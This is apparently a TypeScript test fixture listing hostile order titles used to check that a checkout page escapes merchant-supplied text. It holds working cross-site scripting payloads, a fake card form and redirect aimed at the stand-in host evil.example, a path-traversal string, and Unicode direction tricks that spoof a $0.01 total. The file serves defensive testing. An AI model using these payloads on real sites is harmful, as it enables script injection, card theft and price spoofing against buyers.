/** Text that a merchant could send to break the page, imitate us, or run something in the buyer's browser. */

const ATTACK = "globalThis.__owned=1";

/** Everything here passes as a title; each is put into every field of an order that the page shows. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${ATTACK}</script>`,
  `<img src=x onerror=${ATTACK}>`,
  `"><svg onload=${ATTACK}>`,
  `' autofocus onfocus=${ATTACK} x='`,
  `</title></textarea></style></script><script>${ATTACK}</script>`,
  `<a href="javascript:${ATTACK}">Pay now</a>`,
  `<iframe srcdoc="<script>${ATTACK}</script>"></iframe>`,
  `<style>body{display:none}*{background:url(//evil.example)}</style>`,
  `<form action=https://evil.example><input name=card autofocus><button>Pay</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<!--<img title="--><img src=x onerror=${ATTACK}>">`,
  `<![CDATA[<script>${ATTACK}</script>]]>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ATTACK}>`,
  `{{constructor.constructor('${ATTACK}')()}} \${${ATTACK}} #{7*7}`,
  `&lt;script&gt;${ATTACK}&lt;/script&gt; &#x3c;script>${ATTACK}&#x3c;/script>`,
  "\u202e10.0$ latoT \u202d\u2066\u2067 Total $0.01 USD \u202a\u202b",
  `${"\u2069".repeat(20)}\u202eTotal $0.00${"\u202e".repeat(100)}`,
  "W".repeat(255),
  "\ufdfd".repeat(255),
  `Z${"\u0489\u030d\u0316".repeat(84)}`,
  "מחיר סופי $0.01 السعر النهائي",
  "\u200b\u200c\u200d\u2060\ufeff".repeat(20),
  "👨‍👩‍👧‍👦".repeat(23),
  "漢字".repeat(127),
  "a\nb\tc\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nd",
  "\u00a0".repeat(255),
  "Verified seller ✔ Nothing has been charged. You have already paid.",
  "___proto__.constructor toString null undefined NaN [object Object]",
  "%3Cscript%3E%00../../etc/passwd\\x3cscript\\x3e",
];
